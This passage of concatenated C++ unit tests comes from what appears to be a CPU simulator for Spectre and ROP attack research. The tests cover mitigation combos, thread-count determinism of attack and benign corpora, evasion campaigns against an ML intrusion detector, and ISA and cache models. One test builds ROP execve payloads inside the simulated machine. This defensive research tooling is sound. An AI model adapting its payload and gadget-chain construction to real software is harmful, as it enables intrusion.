  EXPECT_NE(csvs[0].find("spectre-pht,none"), std::string::npos);
}

TEST(DefenseMatrix, RejectsUnknownPresetUpFront) {
  core::DefenseMatrixConfig cfg;
  cfg.quick = true;
  cfg.presets = {"none", "not-a-defense"};
  EXPECT_THROW(core::run_defense_matrix(cfg), Error);
}

// --- property: mitigations preserve the differ's invariants ---------------

/// Builds the differ ExecConfig for one mitigation combo: flags lowered
/// onto machine+kernel config, runtime pieces armed via the prepare hook.
fuzz::ExecConfig mitigated_exec_config(const MitigationConfig& mit) {
  fuzz::ExecConfig cfg;
  cfg.name = "mitigated:" + mit.serialize();
  mit.apply(cfg.machine, cfg.kernel);
  cfg.prepare = [mit](sim::Kernel& kernel) {
    // Armed stats handle is test-local; keep the shared_ptr alive inside
    // the hook itself (the summary is not inspected here).
    (void)mitigate::arm(kernel, mit);
  };
  return cfg;
}

TEST(MitigationProperty, AnyComboKeepsDifferInvariantsGreenAcrossThreads) {
  // Random programs × random mitigation combos, executed on 1/2/8-wide
  // pools: every run must satisfy the cache/PMU invariants, and per-index
  // results must not depend on the pool width.
  constexpr int kItems = 12;
  fuzz::GeneratorOptions gopt;
  const fuzz::RunLimits limits{.max_instructions = 60'000, .stream_chunk = 512};

  const auto run_batch = [&](unsigned threads) {
    ThreadPool pool(threads);
    return parallel_map<std::string>(pool, kItems, [&](std::size_t i) {
      Rng rng(derive_seed(0xD3F3, i));
      const fuzz::FuzzProgram prog = fuzz::generate_program(rng, gopt);
      const MitigationConfig mit =
          config_from_mask(static_cast<unsigned>(rng.next_below(128)));
      const sim::Program image = test::assemble_with_runtime(prog.source());
      const fuzz::ExecResult res = fuzz::run_under_config(
          image, mitigated_exec_config(mit), limits, prog.uses_smc);
      EXPECT_EQ(res.invariant_failure, "")
          << "combo '" << mit.serialize() << "' item " << i;
      // Fingerprint the run for the cross-thread comparison.
      std::string fp = mit.serialize() + '|' + std::to_string(res.retired) +
                       '|' + std::to_string(res.cycle) + '|' +
                       std::to_string(res.pc) + '|' +
                       std::to_string(static_cast<int>(res.stop)) + '|' +
                       res.output;
      for (const auto r : res.regs) fp += ',' + std::to_string(r);
      return fp;
    });
  };

  const auto serial = run_batch(1);
  EXPECT_EQ(serial, run_batch(2));
  EXPECT_EQ(serial, run_batch(8));
}

}  // namespace
}  // namespace crs
