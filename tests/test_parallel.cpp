// Determinism contract of the parallel experiment runner: identical results
// for any thread count, plus the pool/seed/thread-resolution primitives.
#include <gtest/gtest.h>

#include <cstdlib>
#include <set>
#include <sstream>
#include <stdexcept>
#include <vector>

#include "core/campaign.hpp"
#include "core/corpus.hpp"
#include "core/scenario.hpp"
#include "hid/features.hpp"
#include "obs/metrics.hpp"
#include "obs/trace.hpp"
#include "support/parallel.hpp"

namespace crs {
namespace {

TEST(ThreadPool, MapPreservesIndexOrderForAnyThreadCount) {
  const auto square = [](std::size_t i) { return i * i; };
  std::vector<std::size_t> expected;
  for (std::size_t i = 0; i < 100; ++i) expected.push_back(i * i);
  for (const unsigned threads : {1u, 2u, 8u}) {
    ThreadPool pool(threads);
    EXPECT_EQ(pool.size(), threads);
    EXPECT_EQ(parallel_map<std::size_t>(pool, 100, square), expected)
        << "threads=" << threads;
  }
}

TEST(ThreadPool, EmptyAndSingleItemWork) {
  ThreadPool pool(4);
  EXPECT_TRUE(parallel_map<int>(pool, 0, [](std::size_t) { return 1; }).empty());
  EXPECT_EQ(parallel_map<int>(pool, 1, [](std::size_t) { return 7; }),
            std::vector<int>{7});
}

TEST(ThreadPool, PropagatesFirstException) {
  for (const unsigned threads : {1u, 4u}) {
    ThreadPool pool(threads);
    EXPECT_THROW(pool.for_each_index(
                     16,
                     [](std::size_t i) {
                       if (i == 5) throw std::runtime_error("boom");
                     }),
                 std::runtime_error);
    // The pool survives a throwing job and runs the next one.
    EXPECT_EQ(parallel_map<int>(pool, 3, [](std::size_t i) {
                return static_cast<int>(i);
              }),
              (std::vector<int>{0, 1, 2}));
  }
}

TEST(DeriveSeed, DistinctPerIndexAndBase) {
  std::set<std::uint64_t> seen;
  for (std::uint64_t base : {0ull, 1ull, 42ull}) {
    for (std::size_t i = 0; i < 100; ++i) {
      seen.insert(derive_seed(base, i));
    }
  }
  EXPECT_EQ(seen.size(), 300u);  // no collisions across bases or indices
}

TEST(ResolveThreadCount, PrecedenceIsArgOverrideEnvHardware) {
  set_thread_override(0);
  unsetenv("CRS_THREADS");
  EXPECT_GE(resolve_thread_count(), 1u);  // hardware fallback
  EXPECT_EQ(resolve_thread_count(3), 3u);  // explicit request wins

  setenv("CRS_THREADS", "5", 1);
  EXPECT_EQ(resolve_thread_count(), 5u);
  set_thread_override(2);
  EXPECT_EQ(resolve_thread_count(), 2u);  // override beats env
  EXPECT_EQ(resolve_thread_count(7), 7u);  // request still beats override
  set_thread_override(0);
  unsetenv("CRS_THREADS");
}

std::string corpus_fingerprint(const ml::Dataset& d) {
  std::ostringstream ss;
  ss.precision(17);
  for (std::size_t i = 0; i < d.size(); ++i) {
    for (const double v : d.x.row(i)) ss << v << ",";
    ss << d.y[i] << ";";
  }
  return ss.str();
}

std::string campaign_fingerprint(const core::CampaignResult& r) {
  std::ostringstream ss;
  ss.precision(17);
  for (const auto& a : r.attempts) {
    ss << a.attempt << ":" << a.detection_rate << ":" << a.benign_fpr << ":"
       << a.detected << a.evaded << a.mutated_after << a.secret_recovered
       << ":" << a.host_ipc << ":" << a.attack_window_count << ";";
  }
  return ss.str();
}

// The headline guarantee: corpus construction and an offline campaign give
// byte-identical results for 1, 2, and 8 worker threads.
TEST(ParallelDeterminism, CorpusAndCampaignAreThreadCountInvariant) {
  core::CorpusConfig cc;
  cc.windows_per_class = 24;
  cc.host_scale = 300;
  cc.seed = 1234;

  std::string corpus_ref, campaign_ref;
  for (const unsigned threads : {1u, 2u, 8u}) {
    set_thread_override(threads);
    const auto benign = core::build_benign_corpus(cc);
    const auto attack = core::build_attack_corpus(cc);

    core::CampaignConfig cfg;
    cfg.detector.classifier = "MLP";
    cfg.detector.features = hid::paper_feature_indices();
    cfg.attempts = 4;
    cfg.seed = 55;
    const auto result = core::run_campaign(cfg, benign, attack);
    set_thread_override(0);

    const std::string corpus_fp =
        corpus_fingerprint(benign) + "|" + corpus_fingerprint(attack);
    const std::string campaign_fp = campaign_fingerprint(result);
    if (threads == 1) {
      corpus_ref = corpus_fp;
      campaign_ref = campaign_fp;
      ASSERT_FALSE(campaign_ref.empty());
    } else {
      EXPECT_EQ(corpus_fp, corpus_ref) << "threads=" << threads;
      EXPECT_EQ(campaign_fp, campaign_ref) << "threads=" << threads;
    }
  }
}

// The observability flavour of the determinism guarantee: the merged trace
// (Chrome JSON and CSV) and the metrics CSV of a traced golden-crspectre
// scenario plus a small offline campaign are byte-identical for 1, 2 and 8
// worker threads.
TEST(ParallelDeterminism, TracesAndMetricsAreThreadCountInvariant) {
  if (!obs::kEnabled) GTEST_SKIP() << "built with CRSPECTRE_OBS=OFF";

  // Corpora are built once, untraced: corpus batches over-produce by up to
  // pool.size()-1 runs (see corpus.cpp), so their per-run emission volume is
  // thread-count-dependent by design and excluded from the contract.
  core::CorpusConfig cc;
  cc.windows_per_class = 24;
  cc.host_scale = 300;
  cc.seed = 1234;
  const auto benign = core::build_benign_corpus(cc);
  const auto attack = core::build_attack_corpus(cc);

  // The golden crspectre scenario (mirrors fuzz/golden.cpp).
  core::ScenarioConfig sc;
  sc.host = "basicmath";
  sc.host_scale = 3000;
  sc.rop_injected = true;
  sc.perturb = true;
  sc.perturb_params.delay = 500;
  sc.perturb_params.loop_count = 10;
  sc.seed = 7;
  sc.profiler.window_cycles = 5'000;

  std::string chrome_ref, csv_ref, metrics_ref;
  for (const unsigned threads : {1u, 2u, 8u}) {
    set_thread_override(threads);
    obs::TraceSink::instance().clear();
    obs::reset_lane_allocator();
    obs::MetricsRegistry::instance().reset_values();
    obs::set_tracing_enabled(true);

    core::run_scenario(sc);

    core::CampaignConfig cfg;
    cfg.detector.classifier = "MLP";
    cfg.detector.features = hid::paper_feature_indices();
    cfg.attempts = 4;
    cfg.seed = 55;
    core::run_campaign(cfg, benign, attack);

    obs::set_tracing_enabled(false);
    set_thread_override(0);

    const auto chrome = obs::TraceSink::instance().chrome_json();
    const auto csv = obs::TraceSink::instance().csv();
    const auto metrics = obs::MetricsRegistry::instance().csv();
    EXPECT_EQ(obs::validate_chrome_trace(chrome), "") << "threads=" << threads;
    EXPECT_GT(obs::TraceSink::instance().event_count(), 0u);
    if (threads == 1) {
      chrome_ref = chrome;
      csv_ref = csv;
      metrics_ref = metrics;
    } else {
      EXPECT_EQ(chrome, chrome_ref) << "threads=" << threads;
      EXPECT_EQ(csv, csv_ref) << "threads=" << threads;
      EXPECT_EQ(metrics, metrics_ref) << "threads=" << threads;
    }
  }
}

}  // namespace
}  // namespace crs
