// Property-based and differential tests: randomized inputs checked against
// reference models or algebraic invariants, parameterised over seeds so
// each instantiation explores a different region.
#include <gtest/gtest.h>

#include <deque>
#include <map>

#include "casm/assembler.hpp"
#include "fuzz/differ.hpp"
#include "fuzz/generator.hpp"
#include "harness.hpp"
#include "isa/isa.hpp"
#include "rop/chain.hpp"
#include "rop/gadget.hpp"
#include "sim/branch_predictor.hpp"
#include "sim/cache.hpp"
#include "sim/memory.hpp"
#include "support/rng.hpp"
#include "support/stats.hpp"

namespace crs {
namespace {

class Seeded : public ::testing::TestWithParam<std::uint64_t> {};
INSTANTIATE_TEST_SUITE_P(Seeds, Seeded,
                         ::testing::Values(1u, 2u, 3u, 5u, 8u, 13u, 21u, 34u));

// Shared with the crs_fuzz differential fuzzer — one generator, two users.
using fuzz::random_instruction;

TEST_P(Seeded, EncodeDecodeIsIdentityOnValidInstructions) {
  Rng rng(GetParam());
  for (int i = 0; i < 2000; ++i) {
    const auto in = random_instruction(rng);
    const auto decoded = isa::decode(isa::encode(in));
    ASSERT_TRUE(decoded.has_value());
    EXPECT_EQ(*decoded, in);
  }
}

TEST_P(Seeded, DecodeOfRandomBytesNeverLiesAboutValidity) {
  Rng rng(GetParam() ^ 0xBEEF);
  std::array<std::uint8_t, isa::kInstructionSize> bytes{};
  for (int i = 0; i < 5000; ++i) {
    for (auto& b : bytes) b = static_cast<std::uint8_t>(rng.next_u64());
    const auto decoded = isa::decode(bytes);
    if (decoded.has_value()) {
      // Decoding succeeded: re-encoding must reproduce the exact bytes.
      EXPECT_EQ(isa::encode(*decoded), bytes);
    } else {
      // Decoding failed: the opcode or a register index must be illegal.
      const bool illegal =
          bytes[0] >= static_cast<std::uint8_t>(isa::Opcode::kOpcodeCount) ||
          bytes[1] >= isa::kNumRegisters || bytes[2] >= isa::kNumRegisters ||
          bytes[3] >= isa::kNumRegisters;
      EXPECT_TRUE(illegal);
    }
  }
}

bool opcode_uses_imm(isa::Opcode op) {
  switch (isa::op_class(op)) {
    case isa::OpClass::kLoad:
    case isa::OpClass::kStore:
    case isa::OpClass::kCondBranch:
    case isa::OpClass::kJump:
    case isa::OpClass::kCall:
    case isa::OpClass::kFlush:
      return true;
    default:
      return op == isa::Opcode::kMovImm || op == isa::Opcode::kAddImm ||
             op == isa::Opcode::kMulImm || op == isa::Opcode::kAndImm ||
             op == isa::Opcode::kOrImm || op == isa::Opcode::kXorImm ||
             op == isa::Opcode::kShlImm || op == isa::Opcode::kShrImm;
  }
}

TEST_P(Seeded, DisassembleReassemblesToSameEncoding) {
  // For every opcode whose disassembly is position-independent (no label
  // resolution involved — absolute targets print as hex literals, which
  // the assembler accepts), text -> bytes must round-trip. Fields the
  // textual form does not carry (an unused imm on a 3-register op, unused
  // register slots) are canonicalised to zero first.
  Rng rng(GetParam() ^ 0xD15A);
  for (int i = 0; i < 500; ++i) {
    isa::Instruction in = random_instruction(rng);
    // Keep immediates in ranges the textual form preserves exactly.
    in.imm = static_cast<std::int32_t>(rng.next_in(-100000, 100000));
    if (isa::op_class(in.op) == isa::OpClass::kCondBranch ||
        isa::op_class(in.op) == isa::OpClass::kJump ||
        isa::op_class(in.op) == isa::OpClass::kCall) {
      in.imm = static_cast<std::int32_t>(rng.next_below(1 << 30));
    }
    if (!isa::writes_rd(in.op)) in.rd = 0;
    if (!isa::reads_rs1(in.op)) in.rs1 = 0;
    if (!isa::reads_rs2(in.op)) in.rs2 = 0;
    if (!opcode_uses_imm(in.op)) in.imm = 0;
    const std::string text = isa::disassemble(in);
    casm::AssembleOptions opt;
    opt.link_base = 0x10000;
    const auto prog = casm::assemble(text + "\n", opt);
    ASSERT_FALSE(prog.segments.empty()) << text;
    const auto& bytes = prog.segments.front().bytes;
    ASSERT_EQ(bytes.size(), isa::kInstructionSize) << text;
    const auto expected = isa::encode(in);
    EXPECT_TRUE(std::equal(expected.begin(), expected.end(), bytes.begin()))
        << text;
  }
}

// Reference cache model: per-set LRU lists.
class ReferenceCache {
 public:
  ReferenceCache(std::uint32_t sets, std::uint32_t ways, std::uint32_t line)
      : sets_(sets), ways_(ways), line_(line), lru_(sets) {}

  bool access(std::uint64_t addr) {
    auto& set = lru_[set_of(addr)];
    const std::uint64_t tag = tag_of(addr);
    for (auto it = set.begin(); it != set.end(); ++it) {
      if (*it == tag) {
        set.erase(it);
        set.push_front(tag);
        return true;
      }
    }
    set.push_front(tag);
    if (set.size() > ways_) set.pop_back();
    return false;
  }

  bool probe(std::uint64_t addr) const {
    const auto& set = lru_[set_of(addr)];
    const std::uint64_t tag = tag_of(addr);
    for (const auto t : set) {
      if (t == tag) return true;
    }
    return false;
  }

  void flush(std::uint64_t addr) {
    auto& set = lru_[set_of(addr)];
    const std::uint64_t tag = tag_of(addr);
    for (auto it = set.begin(); it != set.end(); ++it) {
      if (*it == tag) {
        set.erase(it);
        return;
      }
    }
  }

 private:
  std::size_t set_of(std::uint64_t addr) const {
    return (addr / line_) % sets_;
  }
  std::uint64_t tag_of(std::uint64_t addr) const {
    return (addr / line_) / sets_;
  }
  std::uint32_t sets_, ways_, line_;
  std::vector<std::deque<std::uint64_t>> lru_;
};

TEST_P(Seeded, CacheLevelMatchesReferenceLruModel) {
  sim::CacheConfig cfg{2048, 64, 4};  // 8 sets x 4 ways
  sim::CacheLevel cache(cfg);
  ReferenceCache ref(cache.num_sets(), cfg.ways, cfg.line_size);
  Rng rng(GetParam() ^ 0xCACE);
  for (int i = 0; i < 20000; ++i) {
    const std::uint64_t addr = rng.next_below(64 * 1024);
    switch (rng.next_below(8)) {
      case 0:
        cache.flush_line(addr);
        ref.flush(addr);
        break;
      case 1:
        EXPECT_EQ(cache.probe(addr), ref.probe(addr)) << "step " << i;
        break;
      default:
        EXPECT_EQ(cache.access(addr), ref.access(addr)) << "step " << i;
        break;
    }
  }
}

TEST_P(Seeded, RsbMatchesBoundedStackModel) {
  sim::ReturnStackBuffer rsb(8);
  std::vector<std::uint64_t> model;  // back = top, capped to 8
  Rng rng(GetParam() ^ 0x4535);
  for (int i = 0; i < 5000; ++i) {
    if (rng.next_bernoulli(0.55)) {
      const std::uint64_t v = rng.next_u64();
      rsb.push(v);
      model.push_back(v);
      if (model.size() > 8) model.erase(model.begin());
    } else {
      const auto got = rsb.pop();
      if (model.empty()) {
        EXPECT_FALSE(got.has_value());
      } else {
        ASSERT_TRUE(got.has_value());
        EXPECT_EQ(*got, model.back());
        model.pop_back();
      }
    }
    EXPECT_EQ(rsb.depth(), model.size());
  }
}

TEST_P(Seeded, MemoryPermissionChecksMatchPageMap) {
  sim::Memory mem(32 * sim::Memory::kPageSize);
  std::vector<std::uint8_t> pages(32, sim::kPermNone);
  Rng rng(GetParam() ^ 0x9e39);
  static constexpr sim::Perm kPerms[] = {sim::kPermNone, sim::kPermRead,
                                         sim::kPermRW, sim::kPermRX};
  for (int i = 0; i < 200; ++i) {
    const std::uint64_t page = rng.next_below(32);
    const std::uint64_t span = 1 + rng.next_below(32 - page);
    const sim::Perm perm = kPerms[rng.next_below(std::size(kPerms))];
    mem.set_permissions(page * sim::Memory::kPageSize,
                        span * sim::Memory::kPageSize, perm);
    for (std::uint64_t p = page; p < page + span; ++p) pages[p] = perm;

    for (int q = 0; q < 50; ++q) {
      const std::uint64_t addr = rng.next_below(mem.size() - 64);
      const std::uint64_t len = 1 + rng.next_below(64);
      for (const auto kind :
           {sim::AccessKind::kRead, sim::AccessKind::kWrite,
            sim::AccessKind::kExecute}) {
        const std::uint8_t need = kind == sim::AccessKind::kRead  ? 1
                                  : kind == sim::AccessKind::kWrite ? 2
                                                                    : 4;
        bool expect = true;
        for (std::uint64_t p = addr / sim::Memory::kPageSize;
             p <= (addr + len - 1) / sim::Memory::kPageSize; ++p) {
          if ((pages[p] & need) == 0) expect = false;
        }
        EXPECT_EQ(mem.check(addr, len, kind), expect);
      }
    }
  }
}

TEST_P(Seeded, AluExecutionMatchesInterpreter) {
  // Random straight-line ALU programs, run on the simulated CPU and on a
  // direct C++ interpreter; all 15 general registers must agree.
  Rng rng(GetParam() ^ 0xA111);
  static constexpr isa::Opcode kAluOps[] = {
      isa::Opcode::kMovImm, isa::Opcode::kMov,    isa::Opcode::kAdd,
      isa::Opcode::kSub,    isa::Opcode::kMul,    isa::Opcode::kDivu,
      isa::Opcode::kRemu,   isa::Opcode::kAnd,    isa::Opcode::kOr,
      isa::Opcode::kXor,    isa::Opcode::kShl,    isa::Opcode::kShr,
      isa::Opcode::kSar,    isa::Opcode::kAddImm, isa::Opcode::kMulImm,
      isa::Opcode::kAndImm, isa::Opcode::kOrImm,  isa::Opcode::kXorImm,
      isa::Opcode::kShlImm, isa::Opcode::kShrImm, isa::Opcode::kCmpLt,
      isa::Opcode::kCmpLtu, isa::Opcode::kCmpEq,  isa::Opcode::kCmpNe};

  std::vector<isa::Instruction> program;
  for (int i = 0; i < 120; ++i) {
    isa::Instruction in;
    in.op = kAluOps[rng.next_below(std::size(kAluOps))];
    in.rd = static_cast<std::uint8_t>(rng.next_below(15));   // keep sp safe
    in.rs1 = static_cast<std::uint8_t>(rng.next_below(15));
    in.rs2 = static_cast<std::uint8_t>(rng.next_below(15));
    in.imm = static_cast<std::int32_t>(rng.next_u64());
    program.push_back(in);
  }

  // Interpreter.
  std::uint64_t regs[16] = {};
  auto sext = [](std::int32_t v) {
    return static_cast<std::uint64_t>(static_cast<std::int64_t>(v));
  };
  for (const auto& in : program) {
    const std::uint64_t a = regs[in.rs1];
    const std::uint64_t b = regs[in.rs2];
    const std::uint64_t imm = sext(in.imm);
    std::uint64_t r = 0;
    switch (in.op) {
      case isa::Opcode::kMovImm: r = imm; break;
      case isa::Opcode::kMov: r = a; break;
      case isa::Opcode::kAdd: r = a + b; break;
      case isa::Opcode::kSub: r = a - b; break;
      case isa::Opcode::kMul: r = a * b; break;
      case isa::Opcode::kDivu: r = b == 0 ? ~0ull : a / b; break;
      case isa::Opcode::kRemu: r = b == 0 ? a : a % b; break;
      case isa::Opcode::kAnd: r = a & b; break;
      case isa::Opcode::kOr: r = a | b; break;
      case isa::Opcode::kXor: r = a ^ b; break;
      case isa::Opcode::kShl: r = a << (b & 63); break;
      case isa::Opcode::kShr: r = a >> (b & 63); break;
      case isa::Opcode::kSar:
        r = static_cast<std::uint64_t>(static_cast<std::int64_t>(a) >> (b & 63));
        break;
      case isa::Opcode::kAddImm: r = a + imm; break;
      case isa::Opcode::kMulImm: r = a * imm; break;
      case isa::Opcode::kAndImm: r = a & imm; break;
      case isa::Opcode::kOrImm: r = a | imm; break;
      case isa::Opcode::kXorImm: r = a ^ imm; break;
      case isa::Opcode::kShlImm: r = a << (static_cast<std::uint32_t>(in.imm) & 63); break;
      case isa::Opcode::kShrImm: r = a >> (static_cast<std::uint32_t>(in.imm) & 63); break;
      case isa::Opcode::kCmpLt:
        r = static_cast<std::int64_t>(a) < static_cast<std::int64_t>(b);
        break;
      case isa::Opcode::kCmpLtu: r = a < b; break;
      case isa::Opcode::kCmpEq: r = a == b; break;
      case isa::Opcode::kCmpNe: r = a != b; break;
      default: FAIL();
    }
    regs[in.rd] = r;
  }

  // Simulated CPU.
  std::string src = "_start:\n";
  for (const auto& in : program) src += isa::disassemble(in) + "\n";
  src += "halt\n";
  test::SimHarness h;
  h.add_program(src, "/bin/p");
  ASSERT_EQ(h.run_program("/bin/p"), sim::StopReason::kHalted);
  for (int r = 0; r < 15; ++r) {
    if (r >= 1 && r <= 3) continue;  // argv registers start non-zero
    EXPECT_EQ(h.machine().cpu().reg(r), regs[r]) << "r" << r;
  }
}

TEST_P(Seeded, PercentileIsMonotoneAndBounded) {
  Rng rng(GetParam() ^ 0x57A7);
  std::vector<double> xs;
  for (int i = 0; i < 200; ++i) xs.push_back(rng.next_gaussian(10, 5));
  double prev = percentile(xs, 0);
  EXPECT_DOUBLE_EQ(prev, *std::min_element(xs.begin(), xs.end()));
  for (double p = 5; p <= 100; p += 5) {
    const double v = percentile(xs, p);
    EXPECT_GE(v, prev);
    prev = v;
  }
  EXPECT_DOUBLE_EQ(prev, *std::max_element(xs.begin(), xs.end()));
}

TEST_P(Seeded, PayloadLayoutInvariants) {
  // For random frame geometries, the built payload always has the chain at
  // the filler boundary and the path string NUL-terminated at the front.
  Rng rng(GetParam() ^ 0xF00D);
  std::vector<rop::Gadget> gadgets;
  auto make = [&](rop::GadgetKind kind, int reg, std::uint64_t addr) {
    rop::Gadget g;
    g.kind = kind;
    g.pop_register = reg;
    g.address = addr;
    gadgets.push_back(g);
  };
  make(rop::GadgetKind::kPopReg, 0, 0x1000 + rng.next_below(0x1000) * 8);
  make(rop::GadgetKind::kPopReg, 1, 0x3000 + rng.next_below(0x1000) * 8);
  make(rop::GadgetKind::kSyscall, -1, 0x5000 + rng.next_below(0x1000) * 8);

  rop::ChainBuilder builder(gadgets);
  for (int i = 0; i < 50; ++i) {
    rop::ExecveChainSpec spec;
    spec.binary_path = "/bin/x" + std::to_string(rng.next_below(1000));
    spec.filler_length = spec.binary_path.size() + 1 + rng.next_below(200);
    spec.buffer_address = 0x100000 + rng.next_below(1 << 20);
    spec.resume_address = 0x10000 + rng.next_below(1 << 16);
    const auto payload = builder.build_execve_payload(spec);
    ASSERT_EQ(payload.bytes.size(), spec.filler_length + 48);
    EXPECT_EQ(std::string(reinterpret_cast<const char*>(payload.bytes.data())),
              spec.binary_path);
    auto word = [&](std::size_t off) {
      std::uint64_t v = 0;
      for (int k = 7; k >= 0; --k)
        v = (v << 8) | payload.bytes[off + static_cast<std::size_t>(k)];
      return v;
    };
    EXPECT_EQ(word(spec.filler_length + 8), spec.buffer_address);
    EXPECT_EQ(word(spec.filler_length + 40), spec.resume_address);
  }
}

TEST_P(Seeded, PhtCounterNeverLeavesSaturationRange) {
  sim::PatternHistoryTable pht(64);
  Rng rng(GetParam() ^ 0x9147);
  for (int i = 0; i < 10000; ++i) {
    const std::uint64_t pc = rng.next_below(1 << 16) * 8;
    pht.update(pc, rng.next_bernoulli(0.5));
    EXPECT_LE(pht.counter(pc), 3);
  }
}

TEST_P(Seeded, GeneratedProgramsAssembleAndHalt) {
  // Every program the fuzz generator emits is termination-safe by
  // construction: it must assemble, run to a clean exit within a generous
  // instruction bound, and never trip an algebraic invariant.
  Rng rng(GetParam() ^ 0xF022);
  fuzz::GeneratorOptions opt;
  opt.allow_rdcycle = (GetParam() % 2) == 0;
  opt.allow_smc = (GetParam() % 3) == 0;
  const auto program = fuzz::generate_program(rng, opt);
  const auto binary =
      test::assemble_with_runtime(program.source(), "fuzzprog");
  const auto configs = fuzz::standard_configs(/*timing_blind=*/true);
  const auto result =
      fuzz::run_under_config(binary, configs[0], {}, program.uses_smc);
  EXPECT_EQ(result.stop, sim::StopReason::kHalted);
  EXPECT_EQ(result.exit_code, 0);
  EXPECT_TRUE(result.invariant_failure.empty()) << result.invariant_failure;
}

TEST_P(Seeded, GeneratedProgramsDecodeCacheInvariant) {
  // The decode cache is a pure simulator-speed knob: on vs off must agree
  // bit-for-bit even with self-modifying code and code-line clflushes.
  Rng rng(GetParam() ^ 0xDCDC);
  fuzz::GeneratorOptions opt;
  opt.allow_smc = true;
  const auto program = fuzz::generate_program(rng, opt);
  const auto binary =
      test::assemble_with_runtime(program.source(), "fuzzprog");
  fuzz::ExecConfig on;
  on.name = "dcache-on";
  fuzz::ExecConfig off;
  off.name = "dcache-off";
  off.machine.cpu.decode_cache = false;
  const auto a = fuzz::run_under_config(binary, on, {}, program.uses_smc);
  const auto b = fuzz::run_under_config(binary, off, {}, program.uses_smc);
  EXPECT_EQ(fuzz::compare_results(a, b, /*arch_only=*/false), "");
}

TEST_P(Seeded, GeneratedProgramsArchStateCacheGeometryInvariant) {
  // Architectural results of rdcycle-free programs cannot depend on cache
  // geometry or speculation depth.
  Rng rng(GetParam() ^ 0xA2C4);
  fuzz::GeneratorOptions opt;
  opt.allow_rdcycle = false;
  const auto program = fuzz::generate_program(rng, opt);
  ASSERT_FALSE(program.uses_rdcycle);
  const auto div = fuzz::check_program(program);
  EXPECT_FALSE(div.has_value())
      << div->config_a << " vs " << div->config_b << ": " << div->detail;
}

}  // namespace
}  // namespace crs
