#include <gtest/gtest.h>

#include "harness.hpp"
#include "support/error.hpp"

namespace crs {
namespace {

using sim::FaultKind;
using sim::StopReason;
using test::SimHarness;

TEST(Kernel, StartUnknownBinaryThrows) {
  SimHarness h;
  EXPECT_THROW(h.kernel().start_with_strings("/bin/missing", {}), Error);
}

TEST(Kernel, ArgvIsMarshalledOntoTheStack) {
  SimHarness h;
  // exit(argc*100 + first byte of argv[0] + len(argv[1]))
  h.add_program(
      "_start:\n"
      "  muli r4, r1, 100\n"
      "  load r5, [r2]\n"      // argv[0] pointer
      "  loadb r5, [r5]\n"     // first byte
      "  add r4, r4, r5\n"
      "  load r6, [r3+8]\n"    // len(argv[1])
      "  add r1, r4, r6\n"
      "  call exit_\n",
      "/bin/t");
  h.run_program("/bin/t", {"A", "four"});
  EXPECT_EQ(h.kernel().exit_code(), 200 + 'A' + 4);
}

TEST(Kernel, WriteSyscallCapturesOutput) {
  SimHarness h;
  h.add_program(
      "_start:\n"
      "  movi r1, msg\n"
      "  movi r2, 5\n"
      "  call print\n"
      "  movi r1, msg\n"
      "  movi r2, 5\n"
      "  call print\n"
      "  movi r1, 0\n"
      "  call exit_\n"
      ".data\n"
      "msg: .ascii \"hello\"\n",
      "/bin/t");
  h.run_program("/bin/t");
  EXPECT_EQ(h.kernel().output_string(), "hellohello");
}

TEST(Kernel, WriteRejectsUnmappedBuffer) {
  SimHarness h;
  h.add_program(
      "_start:\n"
      "  movi r0, 1\n"
      "  movi r1, 1\n"
      "  movi r2, 0x100\n"   // unmapped
      "  movi r3, 8\n"
      "  syscall\n"
      "  mov r1, r0\n"       // expect -1
      "  addi r1, r1, 2\n"   // -> 1
      "  call exit_\n",
      "/bin/t");
  h.run_program("/bin/t");
  EXPECT_EQ(h.kernel().exit_code(), 1);
}

TEST(Kernel, GetRandomFillsBuffer) {
  SimHarness h;
  h.add_program(
      "_start:\n"
      "  movi r1, buf\n"
      "  movi r2, 64\n"
      "  call getrandom\n"
      "  movi r1, buf\n"
      "  movi r2, 64\n"
      "  call print\n"
      "  movi r1, 0\n"
      "  call exit_\n"
      ".data\n"
      "buf: .space 64\n",
      "/bin/t");
  h.run_program("/bin/t");
  const auto out = h.kernel().output();
  ASSERT_EQ(out.size(), 64u);
  int nonzero = 0;
  for (auto b : out)
    if (b != 0) ++nonzero;
  EXPECT_GT(nonzero, 32);
}

TEST(Kernel, UnknownSyscallReturnsMinusOne) {
  SimHarness h;
  h.add_program(
      "_start:\n"
      "  movi r0, 99\n"
      "  syscall\n"
      "  addi r1, r0, 2\n"
      "  call exit_\n",
      "/bin/t");
  h.run_program("/bin/t");
  EXPECT_EQ(h.kernel().exit_code(), 1);
}

TEST(Kernel, ExecveSpawnsRegisteredBinaryAndResumesHost) {
  SimHarness h;
  h.add_program(
      "_start:\n"
      "  movi r1, hi\n"
      "  movi r2, 2\n"
      "  call print\n"
      "  movi r1, 0\n"
      "  call exit_\n"
      ".data\n"
      "hi: .ascii \"hi\"\n",
      "/bin/child", 0x200000);
  h.add_program(
      "_start:\n"
      "  movi r0, 2\n"          // SYS_EXECVE
      "  movi r1, path\n"
      "  syscall\n"
      "  movi r1, after\n"      // host resumes here
      "  movi r2, 5\n"
      "  call print\n"
      "  movi r1, 7\n"
      "  call exit_\n"
      ".data\n"
      "path: .asciz \"/bin/child\"\n"
      "after: .ascii \"after\"\n",
      "/bin/host");
  EXPECT_EQ(h.run_program("/bin/host"), StopReason::kHalted);
  EXPECT_EQ(h.kernel().output_string(), "hiafter");
  EXPECT_EQ(h.kernel().exit_code(), 7);
  EXPECT_EQ(h.kernel().execve_count(), 1);
}

TEST(Kernel, ExecveOfUnknownPathFails) {
  SimHarness h;
  h.add_program(
      "_start:\n"
      "  movi r0, 2\n"
      "  movi r1, path\n"
      "  syscall\n"
      "  addi r1, r0, 2\n"  // -1 + 2
      "  call exit_\n"
      ".data\n"
      "path: .asciz \"/bin/nope\"\n",
      "/bin/host");
  h.run_program("/bin/host");
  EXPECT_EQ(h.kernel().exit_code(), 1);
  EXPECT_EQ(h.kernel().execve_count(), 0);
}

TEST(Kernel, ExecveTwiceReinitialisesChildData) {
  // The child increments a data counter and prints it; both spawns must
  // print the same value because the image is rewritten per spawn.
  SimHarness h;
  h.add_program(
      "_start:\n"
      "  movi r4, counter\n"
      "  load r5, [r4]\n"
      "  addi r5, r5, 65\n"    // 'A' on a fresh image
      "  store [r4], r5\n"
      "  storeb [r4], r5\n"
      "  mov r1, r4\n"
      "  movi r2, 1\n"
      "  call print\n"
      "  movi r1, 0\n"
      "  call exit_\n"
      ".data\n"
      "counter: .word 0\n",
      "/bin/child", 0x200000);
  h.add_program(
      "_start:\n"
      "  movi r0, 2\n"
      "  movi r1, path\n"
